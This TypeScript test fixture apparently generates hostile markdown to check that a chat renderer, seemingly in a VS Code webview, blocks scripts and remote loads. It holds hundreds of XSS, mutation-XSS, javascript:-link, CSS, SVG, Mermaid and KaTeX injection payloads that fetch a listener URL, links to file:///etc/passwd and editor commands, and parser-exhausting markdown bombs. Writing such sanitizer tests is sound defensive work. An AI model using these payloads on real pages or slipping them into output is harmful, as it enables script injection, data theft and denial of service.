// Answers that try to run, to load or to lead somewhere. Each vector has a name of its own: it is what would be asked of
// the listener, or what would stand in `data-ran`.

export interface HostileVector {
  readonly name: string;
  readonly markdown: string;
}

/** Every vector, for a listener at this origin. */
export function hostileMarkdown(to: string): HostileVector[] {
  const vectors: HostileVector[] = [];
  const add = (name: string, build: (run: string, address: string) => string): void => {
    const run = `document.documentElement.dataset.ran='${name}';fetch('${to}/${name}')`;
    vectors.push({ name, markdown: build(run, `${to}/${name}`) });
  };
  scripts(add);
  handlers(add);
  links(add);
  loaded(add);
  styles(add);
  drawings(add);
  mutations(add);
  formulas(add);
  disguises(add);
  return vectors;
}

/** Diagrams that try; they are drawn by their button. */
export function hostileDiagrams(to: string): HostileVector[] {
  const run = (name: string): string => `document.documentElement.dataset.ran='${name}';fetch('${to}/${name}')`;
  const texts: Record<string, string> = {
    'mermaid-click': `flowchart LR\nA-->B\nclick A "javascript:${run('mermaid-click')}"`,
    'mermaid-click-href': `flowchart LR\nA-->B\nclick A href "${to}/mermaid-click-href" _self`,
    'mermaid-callback': `flowchart LR\nA-->B\nclick A call alert("x")`,
    'mermaid-init': `%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}}}%%\nflowchart LR\nA["<img src='${to}/mermaid-init' onerror=&quot;${run('mermaid-init')}&quot;>"]-->B`,
    'mermaid-frontmatter': `---\nconfig:\n  securityLevel: loose\n  htmlLabels: true\n---\nflowchart LR\nA["<iframe src='${to}/mermaid-frontmatter'></iframe>"]-->B`,
    'mermaid-theme-css': `%%{init: {"themeCSS": ".node rect { fill: url(${to}/mermaid-theme-css) } @import url(${to}/mermaid-theme-css2);"}}%%\nflowchart LR\nA-->B`,
    'mermaid-font': `%%{init: {"fontFamily": "x;} @import url(${to}/mermaid-font); a{"}}%%\nflowchart LR\nA-->B`,
    'mermaid-style': `flowchart LR\nA-->B\nstyle A fill:url(${to}/mermaid-style),stroke:#333`,
    'mermaid-class-def': `flowchart LR\nA:::x-->B\nclassDef x background:url(${to}/mermaid-class-def),fill:#f00`,
    'mermaid-image': `flowchart LR\nA@{ img: "${to}/mermaid-image", label: "x", w: 60, h: 60 }\nA-->B`,
    'mermaid-script': `flowchart LR\nA["<script>${run('mermaid-script')}</script>"]-->B`,
    'mermaid-onerror': `flowchart LR\nA["<img src=x onerror=${run('mermaid-onerror')}>"]-->B`,
    'mermaid-markdown': `flowchart LR\nA["\`![x](${to}/mermaid-markdown) [y](javascript:${run('mermaid-markdown')})\`"]-->B`,
    'mermaid-sequence': `sequenceDiagram\nparticipant A\nlink A: x @ javascript:${run('mermaid-sequence')}\nA->>A: <img src='${to}/mermaid-sequence'>`,
    'mermaid-class': `classDiagram\nclass A\nlink A "javascript:${run('mermaid-class')}"\ncallback A "alert"`,
    'mermaid-gantt': `gantt\ntitle x\nsection s\na :a1, 2026-01-01, 3d\nclick a1 href "javascript:${run('mermaid-gantt')}"`,
    'mermaid-state': `stateDiagram-v2\n[*] --> A\nA : <svg onload="${run('mermaid-state')}">`,
    'mermaid-katex': `flowchart LR\nA["$$\\href{javascript:${run('mermaid-katex')}}{x}$$"]-->B`,
  };
  return Object.entries(texts).map(([name, text]) => ({ name, markdown: `\`\`\`mermaid\n${text}\n\`\`\`` }));
}

/** Answers that are nothing but too much. */
export function excessiveMarkdown(): HostileVector[] {
  const deep = 10_000;
  const row = (text: string): string => `|${` ${text} |`.repeat(100)}`;
  const texts: Record<string, string> = {
    'deep-quotes': `${'>'.repeat(deep)} end`,
    'deep-lists': Array.from({ length: 1000 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n'),
    'deep-one-line-lists': `${'- '.repeat(deep)}end`,
    'deep-emphasis': `${'*a **b '.repeat(deep / 4)}end`,
    'deep-brackets': '['.repeat(deep),
    'deep-images': '!['.repeat(deep),
    'deep-parentheses': `[x](${'('.repeat(deep)}`,
    'deep-html': `${'<b>'.repeat(deep)}end`,
    'deep-html-tables': '<table><tr><td>'.repeat(2000),
    'deep-formula': `$${'\\sqrt{'.repeat(300)}x${'}'.repeat(300)}$`,
    'deep-braces': `$$${'{'.repeat(1900)}${'}'.repeat(1900)}$$`,
    'macro-bomb':
      '$$\\def\\a{xxxxxxxxxx}\\def\\b{\\a\\a\\a\\a\\a\\a\\a\\a}\\def\\c{\\b\\b\\b\\b\\b\\b\\b\\b}\\def\\d{\\c\\c\\c\\c\\c\\c\\c\\c}\\d\\d\\d\\d$$',
    'macro-loop': '$\\def\\a{\\a\\a}\\a$',
    'huge-rule': '$\\rule{99999em}{99999em}$',
    'wide-table': [row('a'), row('---'), ...Array.from({ length: 200 }, () => row('b'))].join('\n'),
    'many-backticks': '`'.repeat(deep),
    'many-dollars': '$'.repeat(deep),
    'many-dollar-words': '$a '.repeat(deep / 2),
    'many-backslashes': '\\('.repeat(deep / 2),
    'many-fences': '```\n'.repeat(2001),
    'many-definitions': Array.from({ length: 1000 }, (_, index) => `[a${index}]: https://example.com/${index}`).join(
      '\n',
    ),
    'one-long-line': 'x'.repeat(200_000),
    'many-entities': '&lt;'.repeat(deep),
  };
  return Object.entries(texts).map(([name, markdown]) => ({ name, markdown }));
}

type Add = (name: string, build: (run: string, address: string) => string) => void;

function scripts(add: Add): void {
  add('script', run => `<script>${run}</script>`);
  add('script-upper', run => `<SCRIPT>${run}</SCRIPT>`);
  add('script-src', (_run, address) => `<script src="${address}"></script>`);
  add('script-slash', run => `<script/x>${run}</script>`);
  add('script-newline', run => `<script\n>${run}</script\n>`);
  add('script-inline', run => `text <script>${run}</script> text`);
  add('script-module', run => `<script type="module">${run}</script>`);
  add('script-nested', run => `<scr<script>ipt>${run}</scr</script>ipt>`);
  add('script-in-list', run => `- item\n\n  <script>${run}</script>`);
  add('script-in-quote', run => `> <script>${run}</script>`);
  add('script-in-cell', run => `| a |\n|---|\n| <script>${run}</script> |`);
  add('script-in-heading', run => `# <script>${run}</script>`);
  add('script-entities', run => `&lt;script&gt;${run}&lt;/script&gt;`);
  add('script-unclosed', run => `<script>${run}`);
  add('noscript', run => `<noscript><p title="</noscript><img src=x onerror=${run}>">`);
  add('template', run => `<template><script>${run}</script></template>`);
  add('import-map', (_run, address) => `<script type="importmap">{"imports":{"x":"${address}"}}</script>`);
}

function handlers(add: Add): void {
  const pairs: readonly (readonly [tag: string, handler: string])[] = [
    ['img src=x', 'onerror'],
    ['body', 'onload'],
    ['svg', 'onload'],
    ['video src=x', 'onerror'],
    ['audio src=x', 'onerror'],
    ['details open', 'ontoggle'],
    ['input autofocus', 'onfocus'],
    ['select autofocus', 'onfocus'],
    ['textarea autofocus', 'onfocus'],
    ['marquee', 'onstart'],
    ['iframe', 'onload'],
    ['object data=x', 'onerror'],
    ['embed src=x', 'onerror'],
    ['a href="https://example.com"', 'onclick'],
    ['b style="animation:x 1s"', 'onanimationstart'],
    ['p style="transition:all 1s"', 'ontransitionend'],
    ['table', 'onmouseover'],
    ['td', 'onpointerenter'],
    ['code', 'oncontentvisibilityautostatechange'],
    ['div', 'onbeforetoggle'],
    ['button popovertarget=x', 'onclick'],
    ['form', 'onsubmit'],
    ['math', 'onclick'],
    ['link rel=stylesheet href=x', 'onerror'],
    ['span tabindex=0', 'onfocus'],
    ['h1 contenteditable', 'onpaste'],
  ];
  for (const [index, [tag, handler]] of pairs.entries()) {
    add(`handler-${index}-${handler}`, run => `<${tag} ${handler}="${run}">x`);
  }
  add('handler-slash', run => `<img/src=x/onerror=${run}>`);
  add('handler-backtick', run => `<img src=\`x\` onerror=\`${run}\`>`);
  add('handler-newlines', run => `<b\n\nonmouseover\n=\n"${run}">x</b>`);
  add('handler-upper', run => `<IMG SRC=x ONERROR="${run}">`);
  add('handler-entity', () => '<img src=x onerror="&#102;etch(&#39;/x&#39;)">');
  add('handler-quote-break', run => `<a title='"><img src=x onerror=${run}>'>x</a>`);
  add('handler-in-title', run => `[x](https://example.com "\\"><img src=x onerror=${run}>")`);
  add('handler-in-alt', run => `![\\"><img src=x onerror=${run}>](https://example.com/x.png)`);
  add('handler-in-language', run => `\`\`\`"><img/src=x/onerror=${run}>\ncode\n\`\`\``);
  add('handler-in-code', run => `\`<img src=x onerror=${run}>\``);
  add('handler-in-fence', run => `\`\`\`html\n<img src=x onerror="${run}">\n\`\`\``);
  add('handler-in-definition', run => `[x][y]\n\n[y]: https://example.com "<img src=x onerror=${run}>"`);
}

function links(add: Add): void {
  const schemes = [
    'javascript:',
    'JaVaScRiPt:',
    'java\tscript:',
    'java\nscript:',
    ' javascript:',
    '\u0001javascript:',
    'javascript&colon;',
    'javascript&#58;',
    '&#106;avascript:',
    '&#x6A;avascript:',
    'javascript%3A',
    'vbscript:',
    'data:text/html,',
    'data:text/html;base64,',
    'data:image/svg+xml,',
    'command:workbench.action.quit?',
    'vscode:',
    'vscode-insiders:',
    'vscode-webview:',
    'vscode-resource:',
    'file:///etc/passwd?',
    'blob:',
    'filesystem:',
    'view-source:',
    'ftp://x/',
    'ms-settings:',
    'tel:',
    'sms:',
    'intent:',
    'chrome:',
    'about:blank#',
    'jar:',
    'wss://x/',
    '//example.com/',
    '/',
    '#',
  ];
  for (const [index, scheme] of schemes.entries()) {
    add(`link-${index}`, run => `[x](<${scheme}${run}>)`);
    if (index % 2 === 0) add(`tag-link-${index}`, run => `<a href="${scheme}${run}">x</a>`);
  }
  add('autolink', run => `<javascript:${run}>`);
  add('autolink-command', () => '<command:workbench.action.quit>');
  add('reference', run => `[x][r]\n\n[r]: javascript:${run}`);
  add('image-link', run => `[![x](javascript:${run})](javascript:${run})`);
  add('link-target', (_run, address) => `<a href="${address}" target="_top" ping="${address}">x</a>`);
  add('link-download', (_run, address) => `<a href="${address}" download>x</a>`);
  add('link-map', run => `<map name=m><area href="javascript:${run}" shape=rect coords=0,0,9,9></map><img usemap=#m>`);
  add('link-base', (_run, address) => `<base href="${address}/"><a href="x">x</a>`);
}

function loaded(add: Add): void {
  const tags: readonly ((address: string) => string)[] = [
    address => `![x](${address})`,
    address => `![x][p]\n\n[p]: ${address}`,
    address => `<img src="${address}">`,
    address => `<img srcset="${address} 1x">`,
    address => `<picture><source srcset="${address}"><img></picture>`,
    address => `<image src="${address}">`,
    address => `<input type=image src="${address}">`,
    address => `<video src="${address}" poster="${address}" autoplay></video>`,
    address => `<audio src="${address}" autoplay></audio>`,
    address => `<track src="${address}">`,
    address => `<iframe src="${address}"></iframe>`,
    address => `<iframe srcdoc="&lt;img src=${address}&gt;"></iframe>`,
    address => `<object data="${address}"></object>`,
    address => `<embed src="${address}">`,
    address => `<frameset><frame src="${address}"></frameset>`,
    address => `<link rel=stylesheet href="${address}">`,
    address => `<link rel=preload as=image href="${address}">`,
    address => `<link rel=dns-prefetch href="${address}"><link rel=preconnect href="${address}">`,
    address => `<meta http-equiv=refresh content="0;url=${address}">`,
    address => `<form id=f action="${address}"><input type=submit></form>`,
    address => `<button formaction="${address}" form=f>x</button>`,
    address => `<table background="${address}"><tr><td background="${address}">x</td></tr></table>`,
    address => `<body background="${address}">`,
    address => `<bgsound src="${address}">`,
    address => `<portal src="${address}"></portal>`,
    address => `<applet code=x codebase="${address}"></applet>`,
    address => `<fencedframe src="${address}"></fencedframe>`,
    address => `<html manifest="${address}">`,
    address => `<q cite="${address}">x</q><blockquote cite="${address}">x</blockquote>`,
  ];
  for (const [index, tag] of tags.entries()) add(`load-${index}`, (_run, address) => tag(address));
}

function styles(add: Add): void {
  add('style-tag', (_run, address) => `<style>body{background:url(${address})}</style>`);
  add('style-import', (_run, address) => `<style>@import url(${address});</style>`);
  add('style-attribute', (_run, address) => `<b style="background:url('${address}')">x</b>`);
  add('style-escape', (_run, address) => `<b style="background:u\\72l(${address})">x</b>`);
  add('style-expression', run => `<b style="width:expression(${run})">x</b>`);
  add('style-binding', (_run, address) => `<b style="-moz-binding:url(${address})">x</b>`);
  add('style-fixed', () => '<div style="position:fixed;inset:0;z-index:9999">covers everything</div>');
  add('style-content', (_run, address) => `<b style="content:url(${address})">x</b>`);
  add('style-cursor', (_run, address) => `<b style="cursor:url(${address}),auto">x</b>`);
  add('style-list', (_run, address) => `<ul style="list-style-image:url(${address})"><li>x</li></ul>`);
  add('style-variable', (_run, address) => `<b style="--x:url(${address});background:var(--x)">x</b>`);
  add('style-image-set', (_run, address) => `<b style="background:image-set('${address}' 1x)">x</b>`);
  add('class-clobber', () => '<b class="composer icon-button" id="root">x</b>');
}

function drawings(add: Add): void {
  add('svg-script', run => `<svg><script>${run}</script></svg>`);
  add('svg-use', (_run, address) => `<svg><use href="${address}#x"/></svg>`);
  add('svg-use-data', run => `<svg><use href="data:image/svg+xml,<svg id=x onload='${run}'/>#x"/></svg>`);
  add('svg-image', (_run, address) => `<svg><image href="${address}"/></svg>`);
  add('svg-image-xlink', (_run, address) => `<svg><image xlink:href="${address}"/></svg>`);
  add('svg-animate', run => `<svg><a><animate attributeName=href values="javascript:${run}"/><text>x</text></a></svg>`);
  add('svg-set', run => `<svg><a><set attributeName=href to="javascript:${run}"/><text>x</text></a></svg>`);
  add('svg-foreign', run => `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`);
  add('svg-handler', run => `<svg><rect onclick="${run}" width=9 height=9 /></svg>`);
  add('svg-begin', run => `<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`);
  add('svg-style', (_run, address) => `<svg><style>@import url(${address})</style></svg>`);
  add('svg-filter', (_run, address) => `<svg><filter id=f><feImage href="${address}"/></filter></svg>`);
  add('svg-fill', (_run, address) => `<svg><rect fill="url(${address}#x)"/></svg>`);
  add('svg-link', run => `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`);
  add('svg-data', run => `![x](data:image/svg+xml,<svg onload="${run}"/>)`);
  add('math-link', run => `<math href="javascript:${run}"><mi>x</mi></math>`);
  add(
    'math-action',
    run => `<math><maction actiontype="statusline#${run}" xlink:href="javascript:${run}">x</maction></math>`,
  );
}

function mutations(add: Add): void {
  add(
    'mxss-math',
    run => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  );
  add('mxss-svg', run => `<svg></p><style><a id="</style><img src=x onerror=${run}>">`);
  add('mxss-form', run => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`);
  add(
    'mxss-annotation',
    run =>
      `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${run}></style></annotation-xml></math>`,
  );
  add('mxss-noembed', run => `<noembed><img title="</noembed><img src=x onerror=${run}>"></noembed>`);
  add('mxss-xmp', run => `<xmp><p title="</xmp><img src=x onerror=${run}>">`);
  add('mxss-textarea', run => `<textarea><p title="</textarea><img src=x onerror=${run}>">`);
  add('mxss-title', run => `<title><p title="</title><img src=x onerror=${run}>">`);
  add('mxss-comment', run => `<!--><img src=x onerror=${run}>-->`);
  add('mxss-comment-bang', run => `<!-- --!><img src=x onerror=${run}> -->`);
  add('mxss-cdata', run => `<svg><![CDATA[</svg><img src=x onerror=${run}>]]></svg>`);
  add('mxss-declaration', run => `<!x "><img src=x onerror=${run}>">`);
  add('mxss-processing', run => `<?x ><img src=x onerror=${run}> ?>`);
  add('mxss-table', run => `<table><img src=x onerror=${run}></table>`);
  add('mxss-select', run => `<select><style></select><img src=x onerror=${run}></style>`);
  add('mxss-plaintext', run => `<plaintext><img src=x onerror=${run}>`);
  add('mxss-deep', run => `${'<div>'.repeat(600)}<table><style><img src=x onerror=${run}>`);
  add(
    'mxss-caption',
    run =>
      `<table><caption><svg><title><table><caption></title><style></caption></svg><a title="</style><img src=x onerror=${run}>">`,
  );
  add(
    'clobber-attributes',
    run => `<form><input name=attributes><input name=parentNode></form><img src=x onerror=${run}>`,
  );
  add('shadow', run => `<div><template shadowrootmode=open><img src=x onerror=${run}></template></div>`);
}

function formulas(add: Add): void {
  add('tex-href', run => `$\\href{javascript:${run}}{x}$`);
  add('tex-url', run => `$\\url{javascript:${run}}$`);
  add('tex-image', (_run, address) => `$\\includegraphics{${address}}$`);
  add('tex-data', () => '$\\htmlData{x=y}{z}$');
  add('tex-style', (_run, address) => `$\\htmlStyle{background:url(${address})}{x}$`);
  add('tex-class', () => '$\\htmlClass{composer}{x}$');
  add('tex-id', () => '$\\htmlId{root}{x}$');
  add('tex-html', run => `$\\text{<img src=x onerror=${run}>}$`);
  add('tex-html-block', run => `$$\n<img src=x onerror=${run}>\n$$`);
  add('tex-error', run => `$\\frac{<img src=x onerror=${run}>$`);
  add('tex-color', (_run, address) => `$\\color{red;background:url(${address})}x$`);
  add('tex-break', run => `$x</span><img src=x onerror=${run}>$`);
}

function disguises(add: Add): void {
  add('entity-tag', run => `&#60;img src=x onerror=${run}&#62;`);
  add('entity-hex-tag', run => `&#x3c;img src=x onerror=${run}&#x3e;`);
  add('escaped-tag', run => `\\<img src=x onerror=${run}\\>`);
  add('null-tag', run => `<im\u0000g src=x onerror=${run}>`);
  add('full-width', run => `＜img src=x onerror=${run}＞`);
  add('zero-width', run => `<\u200bimg src=x onerror=${run}>`);
  add('line-separator', run => `<img\u2028src=x\u2029onerror=${run}>`);
  add('right-to-left', run => `\u202e<img src=x onerror=${run}>`);
  add('half-tag', run => `<img src=x onerror=${run}\n\nnext paragraph>`);
  add('double-bracket', run => `<<img src=x onerror=${run}>>`);
  add('attribute-as-tag', run => `<b <img src=x onerror=${run}>>`);
  add('footnote', run => `[^x]\n\n[^x]: <img src=x onerror=${run}>`);
  add('dialog', () => '<dialog open>covers</dialog>');
  add('popover', () => '<div popover id=root>x</div>');
  add('custom-element', () => '<glm-composer></glm-composer><vscode-button>x</vscode-button>');
}
